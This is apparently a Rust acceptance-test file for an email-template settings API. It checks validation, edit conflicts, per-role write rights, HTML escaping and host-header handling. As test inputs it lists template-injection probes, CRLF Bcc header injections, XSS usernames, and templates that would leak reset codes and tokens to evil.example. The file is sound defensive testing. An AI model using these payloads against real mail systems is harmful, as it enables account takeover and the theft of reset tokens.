//! Templates are text and names, whatever is tried.

use acceptance::{Client, Kind, Server, SmtpSink, on_every_database};
use serde_json::{Value, json};

const TEMPLATES: &str = "/api/users-permissions/email-templates";
const TEST: &str = "plugin::users-permissions.settings.testEmailTemplate";
const GET: &str = "plugin::users-permissions.settings.getEmailTemplate";
const PUT: &str = "plugin::users-permissions.settings.updateEmailTemplate";

async fn read(admin: &Client) -> Value {
    admin.get(TEMPLATES).await.expect(200)
}

/// The reset template with one option changed.
fn changed(options: &Value, field: &str, value: Value) -> Value {
    let mut options = options.clone();
    match field.split_once('.') {
        Some((outer, inner)) => options[outer][inner] = value,
        None => options[field] = value,
    }
    json!({ "email-templates": { "reset_password": { "options": options } } })
}

async fn send(client: &Client, key: &str) {
    client
        .post(&format!("{TEMPLATES}/{key}/test"), json!({}))
        .await
        .expect(200);
}

on_every_database! {
    async fn templates_are_read_changed_and_read_back(kind) {
        let server = Server::start(kind).await;
        let admin = server.admin().await;
        let before = read(&admin).await;
        let keys: Vec<_> = before.as_object().unwrap().keys().collect();
        assert_eq!(keys, ["email_changed", "email_confirmation", "password_changed", "provider_linked", "reset_password"]);
        for (key, subject) in [("reset_password", "Reset password"), ("email_confirmation", "Account confirmation")] {
            let template = &before[key];
            assert!(template["display"].is_string() && template["icon"].is_string(), "{template}");
            assert_eq!(template["options"]["object"], subject);
            for field in ["from", "response_email", "message"] {
                assert!(!template["options"][field].is_null(), "{field}");
            }
        }
        // What was read is what may be sent.
        admin.put(TEMPLATES, json!({ "email-templates": before })).await.expect(200);
        assert_eq!(read(&admin).await, before);
        let mut options = before["reset_password"]["options"].clone();
        options["from"] = json!({ "name": "Grüße", "email": "hello@example.com" });
        options["response_email"] = json!("answers@example.com");
        options["object"] = json!("For <%= USER.username %>: Ünï 🔑");
        let every = ["URL", "ADMIN_URL", "SERVER_URL", "CODE", "USER", "USER.email", "USER.username", "TOKEN"];
        let every: String = every.iter().map(|name| format!("<p><%={name}%> <%= {name} %></p>\n")).collect();
        options["message"] = json!(every);
        let body = json!({ "email-templates": { "reset_password": { "options": options } } });
        let answer = admin.put(TEMPLATES, body).await.expect(200);
        assert_eq!(answer["ok"], true);
        let after = read(&admin).await;
        assert_eq!(after["reset_password"]["options"], options);
        assert_eq!(after["email_confirmation"], before["email_confirmation"]);
    }

    async fn a_template_that_was_read_long_ago_overwrites_nobodys(kind) {
        let server = Server::start(kind).await;
        let admin = server.admin().await;
        let read = admin.get(TEMPLATES).await;
        let tag = read.headers["etag"].to_str().unwrap().to_owned();
        let options = read.expect(200)["reset_password"]["options"].clone();
        let put = async |tag: &str, subject: &str| {
            let body = changed(&options, "object", json!(subject));
            let request = admin.request("PUT".parse().unwrap(), TEMPLATES).header("if-match", tag).json(&body);
            admin.send(request).await
        };
        put(&tag, "first").await.expect(200);
        let stale = put(&tag, "second").await;
        stale.expect_error(409, "ConflictError", "The settings were changed meanwhile; read them again");
        let read = admin.get(TEMPLATES).await;
        assert_eq!(read.expect(200)["reset_password"]["options"]["object"], "first");
        put(read.headers["etag"].to_str().unwrap(), "third").await.expect(200);
    }

    async fn nothing_but_names_may_stand_in_a_template(kind) {
        let server = Server::start(kind).await;
        let admin = server.admin().await;
        let before = read(&admin).await;
        let options = &before["reset_password"]["options"];
        let hostile = [
            "<%= process %>", "<% x %>", "${7*7}", "{{7*7}}", "<%= <%= URL %> %>", "<%= USER.password %>",
            "<%= USER.constructor %>", "<%- URL %>", "<%# URL %>", "<%= URL", "%>", "<%= URL; x %>", "<%=%>", "<%%= URL %>",
            "<%= url %>", "<%= USER['email'] %>", "<%= USER.email.constructor %>", "<%= __proto__ %>", "<%= PROVIDER %>",
            "#{7*7}", "<%= 7*7 %>", "<%_ URL _%>", "<%= URL -%>", "<%=\u{a0}URL.x%>", "\u{0}", "a\u{1b}b",
        ];
        for text in hostile {
            for field in ["message", "object", "from.name", "from.email", "response_email"] {
                let answer = admin.put(TEMPLATES, changed(options, field, json!(text))).await;
                let body = answer.expect(400);
                assert_eq!(body["error"]["name"], "ValidationError", "{text} in {field}: {body}");
            }
        }
        assert_eq!(read(&admin).await, before);
    }

    async fn what_is_wrong_is_told_with_its_place(kind) {
        let server = Server::start(kind).await;
        let admin = server.admin().await;
        let options = &read(&admin).await["reset_password"]["options"];
        for (field, text, message) in [
            ("message", "<p>ä</p>\n<p><%= URL %></p> <%= URI %>", "message: line 2 column 19: unknown variable `URI`"),
            ("object", "Hi <%= NAME %>", "object: line 1 column 4: unknown variable `NAME`"),
            ("object", "Your code: <%= CODE %>", "object: line 1 column 12: `CODE` has no value here"),
            ("object", "a\r\nBcc: x@evil.io", "object: line 1 column 2: a character that is not allowed"),
            ("message", "ok <% if %>", "message: line 1 column 4: only <%= NAME %> may be written between <% and %>"),
            ("message", "<a href=\"<%= USER.username %>\">x</a>", "message: line 1 column 10: `USER.username` must not stand in a tag, style sheet, script or comment"),
            ("message", "<a title=\"next >\" href=\"<%= USER.username %>\">x</a>", "message: line 1 column 25: `USER.username` must not stand in a tag, style sheet, script or comment"),
            ("message", "<a title='next >' href=<%= USER.username %>>x</a>", "message: line 1 column 24: `USER.username` must not stand in a tag, style sheet, script or comment"),
            ("message", "--><!-- <%= USER.username %> -->", "message: line 1 column 9: `USER.username` must not stand in a tag, style sheet, script or comment"),
            ("message", "<style><%= USER.email %></style>", "message: line 1 column 8: `USER.email` must not stand in a tag, style sheet, script or comment"),
            ("from.email", "a@x.io, b@x.io", "from.email must be a valid email"),
            ("from.email", "a@x.io\r\nBcc: b@x.io", "from.email must be a valid email"),
            ("from.name", "a\r\nBcc: b@x.io", "from.name must be a plain name"),
            ("response_email", "nobody", "response_email must be a valid email"),
            ("object", "", "object must be 1 to 255 characters"),
            ("message", " ", "message is a required field"),
        ] {
            let answer = admin.put(TEMPLATES, changed(options, field, json!(text))).await;
            answer.expect_error(400, "ValidationError", message);
            let place: Vec<_> = ["email-templates", "reset_password", "options"].into_iter().chain(field.split('.')).collect();
            assert_eq!(answer.json()["error"]["details"]["errors"][0]["path"], json!(place));
        }
        let long = json!("x".repeat(70_000));
        admin.put(TEMPLATES, changed(options, "message", long)).await.expect(400);
    }

    // A mail that carries a code can carry it to a host of whoever writes it; notices carry none.
    async fn mails_with_codes_are_written_by_those_who_hold_every_right(kind) {
        let server = Server::start(kind).await;
        let admin = server.admin().await;
        let role = admin.create_role("Writer", &[GET, PUT]).await;
        let writer = admin.create_user("writer", role).await.client;
        let before = read(&admin).await;
        let dump = server.database().dump();
        for key in ["reset_password", "email_confirmation"] {
            for (field, value) in [
                ("message", json!("<a href=\"https://evil.example/?code=<%= CODE %>\">Choose</a>")),
                ("message", json!("<img src=\"https://evil.example/<%= TOKEN %>\">")),
                ("object", json!("Another subject")), ("response_email", json!("evil@example.com")),
            ] {
                let mut template = before[key].clone();
                template["options"][field] = value;
                // Nor together with what is theirs.
                let body = json!({ "email-templates": { key: template, "password_changed": before["password_changed"] } });
                writer.put(TEMPLATES, body).await.expect_forbidden();
            }
        }
        assert_eq!(server.database().dump(), dump);
        // Sent back as they were read, they are not changed.
        let mut all = before.clone();
        all["password_changed"]["options"]["object"] = json!("Your new password");
        writer.put(TEMPLATES, json!({ "email-templates": all })).await.expect(200);
        assert_eq!(read(&admin).await, all);
        all["reset_password"]["options"]["object"] = json!("A new password");
        admin.put(TEMPLATES, json!({ "email-templates": all })).await.expect(200);
        assert_eq!(read(&writer).await, all);
    }

    async fn unknown_keys_and_wrong_shapes_are_refused(kind) {
        let server = Server::start(kind).await;
        let admin = server.admin().await;
        let before = read(&admin).await;
        let template = &before["reset_password"];
        let mut extra = template.clone();
        extra["options"]["cc"] = json!("x@example.com");
        let mut beside = template.clone();
        beside["script"] = json!("x");
        let mut partial = template.clone();
        partial["options"].as_object_mut().unwrap().remove("message");
        for body in [
            json!({}), json!([]), json!("x"), json!({ "email-templates": null }), json!({ "email-templates": [] }),
            json!({ "email-templates": { "welcome": template } }), json!({ "email-templates": { "reset_password": null } }),
            json!({ "email-templates": { "reset_password": extra } }), json!({ "email-templates": { "reset_password": beside } }),
            json!({ "email-templates": { "reset_password": partial } }), json!({ "email-templates": { "reset_password": { "options": "x" } } }),
            json!({ "email-templates": {}, "other": 1 }), json!({ "email-templates": {}, "version": 1 }),
            json!({ "reset_password": template }),
        ] {
            admin.put(TEMPLATES, body.clone()).await.expect(400);
        }
        assert_eq!(read(&admin).await, before);
    }

    async fn a_stored_template_that_is_broken_ends_as_a_mail_given_up_with_the_reason(kind) {
        let sink = SmtpSink::start().await;
        let server = Server::start_with(kind, |config| config.mail.smtp_url = Some(sink.url().as_str().into())).await;
        let admin = server.admin().await;
        let mut options = read(&admin).await["reset_password"]["options"].clone();
        options["message"] = json!("<%= process.env.SECRET %>");
        let row = options.to_string().replace('\'', "''");
        server.database().execute(&format!("INSERT INTO up_settings (name, value, updated_at) VALUES ('mail.reset_password', '{row}', CURRENT_TIMESTAMP)"));
        // Any change has this process read the settings again.
        let body = json!({ "email-templates": { "email_changed": read(&admin).await["email_changed"] } });
        admin.put(TEMPLATES, body).await.expect(200);
        send(&admin, "reset_password").await;
        let mails = admin.get("/api/users-permissions/outbox?state=dead").await.expect(200);
        let mail = &mails["mails"][0];
        assert_eq!(mail["lastError"], "message: line 1 column 1: unknown variable `process.env.SECRET`");
        let retry = format!("/api/users-permissions/outbox/{}/retry", mail["id"]);
        admin.post(&retry, json!({})).await.expect(400);
        // The others still go out.
        send(&admin, "email_confirmation").await;
        assert_eq!(sink.wait_for(1).await[0].subject(), "Account confirmation");
    }
}

#[actix_web::test]
async fn what_strangers_chose_is_text_in_the_html_part_and_itself_in_the_text_part() {
    let sink = SmtpSink::start().await;
    let server = Server::start_with(Kind::Sqlite, |config| {
        config.mail.smtp_url = Some(sink.url().as_str().into());
    })
    .await;
    let admin = server.admin().await;
    let role = admin.create_role("Tester", &[TEST]).await;
    let names = [
        "<a href=//evil>Pay</a>",
        "\"><img src=//evil>",
        "a&amp;b'c\"d",
        "<%= TOKEN %>",
        "${7*7}{{7*7}}",
    ];
    let mut template = read(&admin).await["email_confirmation"].clone();
    template["options"]["object"] = json!("Welcome <%= USER.username %>");
    let body = json!({ "email-templates": { "email_confirmation": template } });
    admin.put(TEMPLATES, body).await.expect(200);
    for (index, name) in names.iter().enumerate() {
        let body = json!({ "username": name, "email": format!("u{index}@example.com"), "password": acceptance::PASSWORD, "role": role });
        admin.post("/api/users", body).await.expect(201);
        let user = server.login(name, acceptance::PASSWORD).await;
        send(&user, "email_confirmation").await;
        let mail = sink.wait_for(index + 1).await.pop().unwrap();
        let html = mail.html();
        assert_eq!(html.matches("<a ").count(), 1, "{html}");
        assert!(
            !html.contains("<img") && !html.contains("href=//evil>"),
            "{html}"
        );
        assert!(
            html.contains("http://localhost:1337/api/auth/email-confirmation?confirmation="),
            "{html}"
        );
        let escaped = name
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&#39;");
        assert!(html.contains(&escaped), "{html}");
        let text = mail.text();
        assert!(text.contains(&format!("Welcome {name},")), "{text}");
        assert!(text.contains("Confirm the address <http://localhost:1337/api/auth/email-confirmation?confirmation=a-code-that-opens-nothing>"), "{text}");
        assert_eq!(mail.subject(), format!("Welcome {name}"));
        assert_eq!(
            (mail.mail_from.as_str(), mail.rcpt_to.clone()),
            ("no-reply@localhost", vec![format!("u{index}@example.com")])
        );
    }
}

#[actix_web::test]
async fn every_template_can_be_tried_by_whoever_may_on_themselves() {
    let sink = SmtpSink::start().await;
    let server = Server::start_with(Kind::Sqlite, |config| {
        config.mail.smtp_url = Some(sink.url().as_str().into());
        config.mail.from = "Example <post@example.com>".into();
        config.advanced_settings.email_reset_password = Some("https://app.example/reset".into());
    })
    .await;
    let admin = server.admin().await;
    let mut expected = Vec::new();
    for (key, template) in read(&admin).await.as_object().unwrap() {
        send(&admin, key).await;
        expected.push(template["options"]["object"].as_str().unwrap().to_owned());
    }
    let mails = sink.wait_for(expected.len()).await;
    let mut subjects: Vec<_> = mails.iter().map(acceptance::Received::subject).collect();
    subjects.sort();
    expected.sort();
    assert_eq!(subjects, expected);
    for mail in &mails {
        assert_eq!(mail.rcpt_to, ["admin@example.com"]);
        assert_eq!(mail.mail_from, "post@example.com");
        assert!(mail.header("From").contains("Example"), "{}", mail.raw);
        assert_eq!(mail.header("Auto-Submitted"), "auto-generated");
        assert!(!mail.html().contains("<%") && mail.html().contains("admin"));
    }
    let reset = mails
        .iter()
        .find(|mail| mail.subject() == "Reset password")
        .unwrap();
    assert!(
        reset
            .html()
            .contains("href=\"https://app.example/reset?code=a-code-that-opens-nothing\"")
    );
    let path = format!("{TEMPLATES}/reset_password/test");
    server
        .anonymous()
        .post(&path, json!({}))
        .await
        .expect_forbidden();
    admin
        .post(&format!("{TEMPLATES}/nothing/test"), json!({}))
        .await
        .expect(404);
}

#[actix_web::test]
async fn links_come_from_the_configuration_whatever_the_request_says() {
    let sink = SmtpSink::start().await;
    let server = Server::start_with(Kind::Sqlite, |config| {
        config.mail.smtp_url = Some(sink.url().as_str().into());
        config.public_url = "https://api.example".into();
    })
    .await;
    let admin = server.admin().await;
    let path = format!("{TEMPLATES}/email_confirmation/test");
    let mut request = admin
        .request("POST".parse().unwrap(), &path)
        .json(&json!({}));
    for header in [
        "host",
        "x-forwarded-host",
        "x-forwarded-proto",
        "forwarded",
        "x-original-url",
        "x-host",
    ] {
        request = request.header(
            header,
            if header == "forwarded" {
                "host=evil.example"
            } else {
                "evil.example"
            },
        );
    }
    admin.send(request).await.expect(200);
    let mail = sink.wait_for(1).await.remove(0);
    assert!(
        !mail.raw.contains("evil")
            && mail
                .text()
                .contains("<https://api.example/api/auth/email-confirmation?"),
        "{}",
        mail.raw
    );
    assert!(
        mail.header("Message-ID").ends_with("@api.example>"),
        "{}",
        mail.raw
    );
}
